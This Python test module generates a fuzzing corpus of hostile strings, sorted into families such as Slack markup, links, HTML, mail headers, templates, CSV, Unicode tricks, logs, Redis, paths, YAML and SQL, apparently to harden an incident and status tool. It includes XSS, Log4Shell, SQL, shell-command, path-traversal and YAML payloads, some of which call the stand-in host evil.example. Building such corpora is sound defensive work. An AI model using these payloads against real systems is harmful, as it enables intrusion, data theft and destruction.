"""Texts that hurt software, by family, each with why; `python -m tests.gate.corpus` writes `corpus.jsonl`.

Sources: Slack docs ("Formatting text"), OWASP cheat sheets (cross-site scripting, CSV and log injection, server-side
template injection), RFC 5322 and RFC 2047 (headers), Unicode UAX #9, UTS #39 and TR #36 (direction, confusables),
3GPP TS 23.038 (GSM 7 bit), ECMA-48 (terminal sequences), RFC 8259 (JSON), the Redis protocol, YAML 1.1.
"""

import json
from collections.abc import Iterator
from dataclasses import asdict, dataclass
from itertools import product
from pathlib import Path

FILE = Path(__file__).with_name("corpus.jsonl")


@dataclass(frozen=True)
class Hurtful:
    """One text: the family it is of, why it hurts, and the text."""

    family: str
    why: str
    text: str


def stored() -> tuple[Hurtful, ...]:
    """Return the corpus as it is in the file."""
    return tuple(Hurtful(**json.loads(line)) for line in FILE.read_text().splitlines())


def built() -> tuple[Hurtful, ...]:
    """Return the corpus as the families make it, each text once."""
    found: dict[str, Hurtful] = {}
    for family, (why, texts) in _FAMILIES.items():
        for text in texts():
            found.setdefault(text, Hurtful(family, why, text))
    return tuple(found.values())


def _mrkdwn() -> Iterator[str]:
    live = ("!channel", "!here", "!everyone", "@U0ANA", "#C0GENERAL", "!subteam^S0TEAM", "!date^0^{date}|x", "@W0X|you")
    for token in live:
        yield from (f"<{token}>", f"&lt;{token}&gt;", f"<{token}", f"{token}>", f"<<{token}>>", f"`<{token}>`")
        yield from (f"<\u200b{token}>", f"<{token}|all clear>", f"x<{token}>x", f"\\<{token}\\>", f"<{token.upper()}>")
    for mark in "*_~`":
        yield from (f"{mark}all{mark}", f"{mark}{mark}all{mark}{mark}", f"{mark}all", f"a{mark}b\n{mark}c")
    yield from ("```code```", "> quoted", ">>> all quoted", "• list", ":tada: :skull:", "@channel @here @everyone")
    yield from (
        ":" * 300,
        "<" * 300,
        "&" * 300,
        "&amp;lt;!channel&amp;gt;",
        "&#60;!channel&#62;",
        "<!-- -->",
        "<>",
        "<|>",
    )


def _links() -> Iterator[str]:
    schemes = ("http", "https", "javascript", "data", "vbscript", "file", "slack", "tel", "mailto", "ftp", "blob", "ws")
    for scheme in schemes:
        target = f"{scheme}:{'//' if scheme not in ('tel', 'mailto', 'javascript', 'data') else ''}evil.example/%0d%0a"
        yield from (target, f"<{target}>", f"<{target}|https://bank.example>", f"[bank]({target})", f"![x]({target})")
        yield from (
            f'<a href="{target}">bank</a>',
            f"{scheme.upper()}:\t//evil.example",
            f" {target}",
            f"java\nscript:{target}",
        )
    yield from ("//evil.example", "https://bank.example@evil.example/", "https://evil.example\\@bank.example")
    yield from ("https://xn--bnk-5cd.example/", "https://b\u0430nk.example/", "http://[::1]:6379/", "http://127.1/")


_ALERTS = ("alert(1)", "fetch('//evil.example')", "document.cookie")


def _html() -> Iterator[str]:
    tags = (
        "script",
        "img",
        "svg",
        "iframe",
        "style",
        "object",
        "base",
        "form",
        "input",
        "meta",
        "link",
        "video",
        "body",
    )
    for tag in tags:
        yield from (f"<{tag}>x</{tag}>", f"<{tag} src=x onerror=alert(1)>", f"</{tag}>", f"<{tag.upper()}/x>")
        yield from (
            f"<{tag}\n>",
            f"<{tag}",
            f"&lt;{tag}&gt;",
            f"<\0{tag}>",
            f'"><{tag}>',
            f"'><{tag} x='",
            f"<{tag}/onload=x>",
        )
    for act, quote in product(_ALERTS, ('"', "'", "`", "")):
        yield from (
            f"{quote} onmouseover={quote}{act}",
            f"{quote}><script>{act}</script>",
            f"<svg onload={quote}{act}{quote}>",
        )
    for closing in (
        "title",
        "style",
        "textarea",
        "article",
        "main",
        "time",
        "p",
        "h4",
        "section",
        "noscript",
        "template",
    ):
        yield from (f"</{closing}><h1>All fine</h1>", f"</{closing}\n><b>x")
    yield from (
        "<!--",
        "-->",
        "<!--[if IE]><p><![endif]-->",
        "<![CDATA[x]]>",
        "]]>",
        "<?xml version='1.0'?>",
        "<!DOCTYPE x>",
    )
    yield from (
        "&amp; &lt; &#0; &#x0; &#xD800; &bogus;",
        "&nbsp;&shy;&zwj;",
        "&" + "amp;" * 200,
        "<" + "b" * 4_000 + ">",
    )
    yield from (
        "\x3cscript\x3e",
        "%3Cscript%3E",
        "\\u003cscript\\u003e",
        "＜script＞",
        "‹script›",
        "<scr\u0000ipt>",
        "+ADw-script+AD4-",
    )


def _headers() -> Iterator[str]:
    breaks = (
        "\r\n",
        "\n",
        "\r",
        "\u2028",
        "\u2029",
        "\x85",
        "\x0b",
        "\x0c",
        "\x1c",
        "\x1d",
        "\x1e",
        "%0d%0a",
        "\\r\\n",
    )
    for brk, header in product(
        breaks, ("Bcc: all@evil.example", "Subject: all clear", "Content-Type: text/html", ".", "\tfolded")
    ):
        yield f"x{brk}{header}{brk}{brk}body"
    yield from ("=?utf-8?b?QmNjOiBhbGw=?=", "=?utf-8?q?=0d=0aBcc:_x?=", "=?x?", "=?utf-8?b?////?=", "a =?utf-8?q?b?= c")
    yield from (
        "--=_boundary",
        "--=_boundary--",
        "From me",
        ".\r\n.",
        "\r\n.\r\nQUIT",
        "RCPT TO:<all@evil.example>",
        "x" * 1_200,
    )


def _templates() -> Iterator[str]:
    codes = (
        "7*7",
        "self.__class__",
        "config",
        "''.__class__.__mro__",
        "cycler.__init__.__globals__",
        "range(10**9)",
        "x|safe",
    )
    frames = (
        "{{{{{}}}}}",
        "{{{{-{}-}}}}",
        "${{{}}}",
        "#{{{}}}",
        "<%= {} %>",
        "{{% set a={} %}}",
        "[[{}]]",
        "@({})",
        "{{{{{{{}}}}}}}",
    )
    for code, frame in product(codes, frames):
        yield frame.format(code)
    yield from (
        "{% include '/etc/passwd' %}",
        "{% import os %}",
        "{% raw %}",
        "{% endraw %}",
        "{# gone #}",
        "{#",
        "{{",
        "}}",
        "{%",
    )
    yield from (
        "{% extends 'x' %}",
        "{% for x in range(10**9) %}",
        "{% call passage('next_update') %}",
        "%s %(x)s %n %99999d",
    )
    yield from (
        "{0} {name!r:>99999}",
        "$x ${x} $$",
        "\x1dnext_update\x1fNext update\x1eNever\x1d",
        "#set($x=7*7)",
        "<#assign x>",
    )


def _csv() -> Iterator[str]:
    for start, formula in product(
        "=+-@\t\r|", ('HYPERLINK("http://evil.example")', "cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)", "IMPORTXML()")
    ):
        yield from (start + formula, f'"{start}{formula}', f"x,{start}{formula}", f" {start}{formula}")
    yield from ('a","b', "a;b", 'a""b', "a\n=1+1", "sep=;\n1", "\ufeff=1+1")


def _direction() -> Iterator[str]:
    marks = [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C)]
    for mark in marks:
        yield from (
            f"{mark}All clear",
            f"invoice{mark}fdp.exe",
            f"All {mark * 20}clear",
            f"{mark}<!channel>{mark}",
            f"a{mark}\nb",
        )
    yield from ("مرحبا all clear", "שלום (clear)", "abc\u202edef\u202cghi", "\u2067a\u2066b\u2069c", "١٢٣ 123 ۱۲۳")


def _invisible() -> Iterator[str]:
    unseen = (
        0x00AD,
        0x034F,
        0x115F,
        0x1160,
        0x17B4,
        0x180E,
        0x200B,
        0x200C,
        0x200D,
        0x2060,
        0x2061,
        0x2064,
        0x2800,
        0x3164,
        0xFEFF,
        0xFFA0,
        0xFFF9,
        0xFFFC,
        0xE0001,
        0xE0041,
        0x1D173,
    )
    for code in unseen:
        yield from (
            chr(code),
            f"All{chr(code)} clear",
            chr(code) * 300,
            f"<{chr(code)}!channel>",
            f"a{chr(code)}\u0301b",
        )
    for space in (0x00A0, 0x1680, 0x2000, 0x2007, 0x2009, 0x202F, 0x205F, 0x3000):
        yield from (f"a{chr(space)}b", chr(space) * 40, f"{chr(space)}x{chr(space)}")


def _control() -> Iterator[str]:
    for code in (*range(0x20), *range(0x7F, 0xA0)):
        yield from (f"a{chr(code)}b", f"{chr(code)}")


def _zalgo() -> Iterator[str]:
    for mark, many in product(
        (0x0300, 0x0301, 0x0336, 0x0489, 0x20DD, 0x0E47, 0x064B, 0xFE20, 0x1AB0), (1, 4, 5, 60, 400)
    ):
        yield f"z{chr(mark) * many}algo"
    yield from (
        "".join(c + "\u0301\u0316\u0324\u0359" * 6 for c in "all clear"),
        "\u0301" * 50,
        "é" * 500,
        "e\u0301" * 500,
    )
    yield from (
        "각",
        "ᄀ" * 200 + "ᅡ" * 200,
        "ﷺ" * 20,
        "ế",
        "שָׁ",
        "ཀྵྨྐྵྲྱ",
        "क्ष्म्य",
        "👩‍👩‍👧‍👦",
        "🏳️‍🌈",
        "🇩🇪🇩",
        "1️⃣",
        "👍🏿" * 50,
    )


def _surrogates() -> Iterator[str]:
    for one in ("\ud800", "\udbff", "\udc00", "\udfff", "\ude00\ud83d", "\ud83d"):
        yield from (one, f"a{one}b", f"{one} " * 50, f"<{one}script>", f"{one}\n{one}", f"{one}\u0301")
    for odd in (0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF, 0xFDD0, 0xE000, 0xF8FF, 0xF0000, 0x0378, 0xFFFD):
        yield from (f"a{chr(odd)}b", chr(odd))


def _sms() -> Iterator[str]:
    extension = "^{}\\[~]|€"
    for character in (*extension, *"@£$¥èéùìòÇØøÅåΔ_ΦΓΛΩΠΨΣΘΞÆæßÉ¤¡ÄÖÑÜ§¿äöñüà"):
        yield from (character, f"a{character}" * 80)
    for length in (69, 70, 71, 159, 160, 161, 306, 307):
        yield from ("a" * length, "ж" * length, "€" * length, "😀" * length)
    yield from ("\x1b" + extension, "\x1b\x0a", "a\x1b", "“quotes” – dash… ’", "ﬁ ﬂ Ⅳ ½ ㎏")


def _log() -> Iterator[str]:
    for brk in ("\n", "\r\n", "\r", "\x0b", "\u2028", "\\n", "%0a"):
        yield from (f'x{brk}{{"level":"info","event":"approved"}}', f"x{brk}2026-11-22 12:00:00 [info] approved by ben")
    yield from (
        "${jndi:ldap://evil.example/a}",
        "xoxb-123-456-abc",
        "Authorization: Bearer x",
        "password=hunter2",
        "event=approved level=info",
    )


def _terminal() -> Iterator[str]:
    for lead in ("\x1b", "\x9b", "\x1b["):
        for code in (
            "[2J",
            "[31m",
            "[1A",
            "]0;title\x07",
            "]8;;http://evil.example\x07x",
            "[6n",
            "c",
            "P+q\x1b\\",
            "[?1049h",
            "(0",
            "[20t",
        ):
            yield f"a{lead}{code}b"
    yield from (
        "\x08" * 20 + "approved",
        "line\roverwritten",
        "\x07\x07",
        "\x0e\x0f",
        "\\e[31m",
        "\\033[31m",
        "\x1b]52;c;eA==\x07",
        "a\x7f\x7fb",
    )


def _json() -> Iterator[str]:
    yield from (
        '"',
        "\\",
        '\\"',
        "\\\\",
        '","stage":"resolved","x":"',
        '"}',
        "]}",
        "\\u0000",
        "\\ud800",
        "\\u0022",
        "/*x*/",
        "//x",
    )
    yield from (
        "null",
        "true",
        "NaN",
        "-Infinity",
        "1e999",
        "9" * 400,
        "[" * 500,
        "{" * 500,
        '{"a":' * 100,
        "__proto__",
        "constructor",
    )
    yield from (
        "</script>",
        "\u2028",
        "\u2029",
        ")]}',",
        '{"$ne":null}',
        '{"incident":"inc0002"}',
        "undefined",
        "\ufeff{}",
        "'",
        "`",
    )


def _redis() -> Iterator[str]:
    for command in ("FLUSHALL", "CONFIG SET dir /tmp", "EVAL 'x' 0", "SHUTDOWN", "DEBUG SLEEP 9", "SLAVEOF x 1"):
        yield from (
            f"\r\n{command}\r\n",
            f"*1\r\n$8\r\n{command}\r\n",
            f"x\n{command}",
            f"' .. redis.call('{command}') .. '",
        )
    yield from (
        "{p0}",
        "{p1}:incident:1",
        "c1:{p0}:doc:*",
        "*",
        "?",
        "[a-z]*",
        "$-1",
        ":1",
        "+OK",
        "-ERR",
        "]] return 1 --[[",
        "\0{p0}",
    )


def _paths() -> Iterator[str]:
    for up, target in product(
        ("../", "..\\", "%2e%2e/", "....//", "..%c0%af", "/", "~/", "C:\\"),
        ("etc/passwd", "index.html", ".ssh/id", "con"),
    ):
        yield from (up * 6 + target, f"{up}{target}\0.html")
    yield from (
        ".",
        "..",
        "index.html",
        "status.json",
        ".lock",
        "aux",
        "x" * 300,
        "a/b\\c:d*e?f",
        "file:///etc/passwd",
        "-rf",
        "--help",
        "; rm -rf /",
        "$(id)",
        "`id`",
        "| id",
        "&& id",
    )


def _yaml() -> Iterator[str]:
    yield from (
        "!!python/object/apply:os.system ['id']",
        "&a [*a]",
        "*a",
        "? x",
        "- x",
        "key: value",
        "no",
        "on",
        "~",
        "0o7",
        "1_000",
    )
    yield from (
        "2026-11-22",
        "12:30:45",
        "| x",
        "> x",
        "%YAML 1.2",
        "---",
        "...",
        "--- !x",
        "{a: b}",
        "[a",
        "# gone",
        "x # gone",
        "'x",
        '"x',
        "<<: *a",
        "\tx",
    )


def _sql_and_more() -> Iterator[str]:
    yield from (
        "' OR 1=1 --",
        "'; DROP TABLE incidents; --",
        "1 UNION SELECT 1",
        "*)(uid=*",
        "admin'--",
        "$gt",
        "() { :; }; id",
        "\\x41",
        "%n%n%n",
    )
    yield from (
        "0",
        "-1",
        "None",
        "nil",
        "[object Object]",
        "INC-1",
        "inc0001",
        "U0ANA",
        "SEV1",
        "resolved",
        "me",
        "Ⅰ",
        "I\u0307",
        "ß",
        "ﬀ",
        "ı",
    )
    yield from (
        "a" * 119,
        "a" * 120,
        "a" * 121,
        "ä" * 2_000,
        "ä" * 2_001,
        "x\n" * 900,
        "word " * 700,
        "\n" * 500 + "x",
        "a\tb\tc",
        "  x  ",
    )


_FAMILIES = {
    "mrkdwn": ("pings people, or draws links and formats, in Slack", _mrkdwn),
    "links": ("leads somewhere else than it says, or runs when it is pressed", _links),
    "html": ("becomes an element or an attribute on the status page or in a mail", _html),
    "headers": ("begins a header of its own, or ends the mail", _headers),
    "templates": ("is run as a template, or forges the mark of a passage", _templates),
    "csv": ("is run as a formula when a spreadsheet opens it", _csv),
    "direction": ("makes a sentence read as another one", _direction),
    "invisible": ("cannot be seen, and hides or splits words", _invisible),
    "control": ("is obeyed by whoever shows it", _control),
    "zalgo": ("paints over its neighbours, or changes when it is normalised", _zalgo),
    "surrogates": ("cannot be written as UTF-8, or is nobody's character", _surrogates),
    "sms": ("counts double, or changes the encoding of the whole text", _sms),
    "log": ("writes a line of its own into a log", _log),
    "terminal": ("moves, colours or clears the screen, or types on it", _terminal),
    "json": ("ends its string, or is another value", _json),
    "redis": ("is another command, key or pattern", _redis),
    "paths": ("is another file, or an option of a command", _paths),
    "yaml": ("is an object, a reference or another type", _yaml),
    "names": ("is taken for something it is not, or is as long as can be", _sql_and_more),
}


if __name__ == "__main__":
    FILE.write_text("".join(json.dumps(asdict(one)) + "\n" for one in built()))
